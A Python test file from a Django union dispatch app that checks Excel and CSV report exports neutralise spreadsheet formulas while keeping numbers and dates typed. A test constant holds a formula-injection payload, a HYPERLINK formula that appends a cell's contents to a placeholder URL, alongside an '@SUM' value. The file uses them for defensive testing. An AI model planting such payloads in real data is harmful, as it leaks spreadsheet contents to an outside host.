"""Exports a spreadsheet opens safely (issue 20): text a spreadsheet would evaluate is
neutralised in every cell — the data, and the Report sheet's filters — while numbers and dates
stay typed (finding 2); every report's Excel file opens, built now or in the background, whatever
its title (finding 4: "Re-sign due / overdue" has a "/", which no sheet name may hold)."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse

from dispatch.models import Employer
from members.models import Member
from reports import framework, services, tasks
from reports.models import ExportJob, ExportStatus
from reports.tests.conftest import MONDAY
from unioncore.spreadsheets import sheet_title

pytestmark = [pytest.mark.django_db, pytest.mark.sqlite]  # exports run on make run's SQLite too

HYPERLINK = '=HYPERLINK("http://x/?"&C3,"x")'
ALL_SLUGS = [r.slug for r in framework.all_reports()]


def filters_of(slug: str, hall) -> dict:
    """Filters that make each report's rows (the required ones given; the rest as on a first visit)."""
    return {
        "out-of-work-list": {"book": "WIRE SEATTLE"},
        "member-dispatch-history": {"member": hall.member("Adams").card_number},
        "employer-dispatch-history": {"employer": str(hall.employers["alpha"].pk)},
        "jobs-available-for-member": {"member": hall.member("Baker").card_number},
        "internet-bids": {"member": hall.member("Baker").card_number},
    }.get(slug, {})


def content(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def formulas(workbook) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}: {cell.value}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("slug", ALL_SLUGS)
def test_every_report_exports_to_excel_now_with_a_sheet_named_after_it(slug, hall, client, officer):
    client.force_login(officer)
    report = framework.get(slug)
    response = client.get(reverse("admin:reports_export", args=[slug, "xlsx"]), filters_of(slug, hall))
    assert response.status_code == 200, response.content[:300]
    workbook = openpyxl.load_workbook(io.BytesIO(content(response)))
    # a report with summary figures has them on a third sheet
    assert workbook.sheetnames == [sheet_title(report.title), "Report", *(["Summary"] if report.summary else [])]


@pytest.mark.parametrize("slug", ALL_SLUGS)
def test_every_report_exports_to_excel_in_the_background(slug, hall, officer, monkeypatch):
    monkeypatch.setattr(tasks.build_export, "delay", lambda job_id: None)
    report = framework.get(slug)
    job = services.export_job_queue(report=report, by=officer, filters=filters_of(slug, hall), format="xlsx")
    assert tasks.build_export(job.pk) == ExportStatus.DONE, ExportJob.objects.get(pk=job.pk).error
    job.refresh_from_db()
    with job.file.open("rb") as f:
        workbook = openpyxl.load_workbook(io.BytesIO(f.read()))
    assert workbook.sheetnames[0] == sheet_title(report.title)
    job.file.delete(save=False)


def test_an_employers_or_members_formula_is_text_in_the_excel_file_and_its_filters(hall, client, dispatcher):
    alpha = hall.employers["alpha"]
    Employer.objects.filter(pk=alpha.pk).update(name=HYPERLINK)
    Member.objects.filter(pk=hall.member("Adams").pk).update(last_name="@SUM(1+1)")
    client.force_login(dispatcher)
    response = client.get(
        reverse("admin:reports_export", args=["daily-dispatch-log", "xlsx"]),
        {"date_from": MONDAY, "date_to": MONDAY, "employer": alpha.pk},
    )
    workbook = openpyxl.load_workbook(io.BytesIO(content(response)))
    assert formulas(workbook) == [], "no cell of the file is a formula"
    sheet = workbook.worksheets[0]
    header = [c.value for c in sheet[1]]
    adams = sheet[2]
    employer = adams[header.index("Employer")]
    assert (employer.value, employer.data_type) == ("'" + HYPERLINK, "s")
    assert adams[header.index("Name")].value == "'@SUM(1+1), Pat"
    wage, offered = adams[header.index("Wage rate")], adams[header.index("Offered")]
    assert (wage.value, wage.data_type) == (58.5, "n"), "a number stays a number"
    assert isinstance(offered.value, datetime.datetime), "a date stays a date"
    filters = {row[0].value: row[1].value for row in workbook["Report"].iter_rows(min_row=3) if row[0].value}
    assert filters["Employer"].startswith("'" + HYPERLINK)


@pytest.mark.parametrize("slug", ALL_SLUGS)
def test_every_report_exports_to_csv_with_its_columns(slug, hall, client, officer):
    client.force_login(officer)
    report = framework.get(slug)
    response = client.get(reverse("admin:reports_export", args=[slug, "csv"]), filters_of(slug, hall))
    assert response.status_code == 200, response.content[:300]
    header = next(csv.reader(io.StringIO(content(response).decode("utf-8-sig"))))
    assert header == [c.label for c in report.columns]


def test_an_employers_or_members_formula_is_text_in_the_csv(hall, client, dispatcher):
    alpha = hall.employers["alpha"]
    Employer.objects.filter(pk=alpha.pk).update(name=HYPERLINK)
    Member.objects.filter(pk=hall.member("Adams").pk).update(last_name="@SUM(1+1)")
    client.force_login(dispatcher)
    response = client.get(
        reverse("admin:reports_export", args=["daily-dispatch-log", "csv"]),
        {"date_from": MONDAY, "date_to": MONDAY, "employer": alpha.pk},
    )
    header, adams = list(csv.reader(io.StringIO(content(response).decode("utf-8-sig"))))
    assert adams[header.index("Employer")] == "'" + HYPERLINK
    assert adams[header.index("Name")] == "'@SUM(1+1), Pat"
    assert adams[header.index("Wage rate")] == "58.50", "a number stays a plain number"
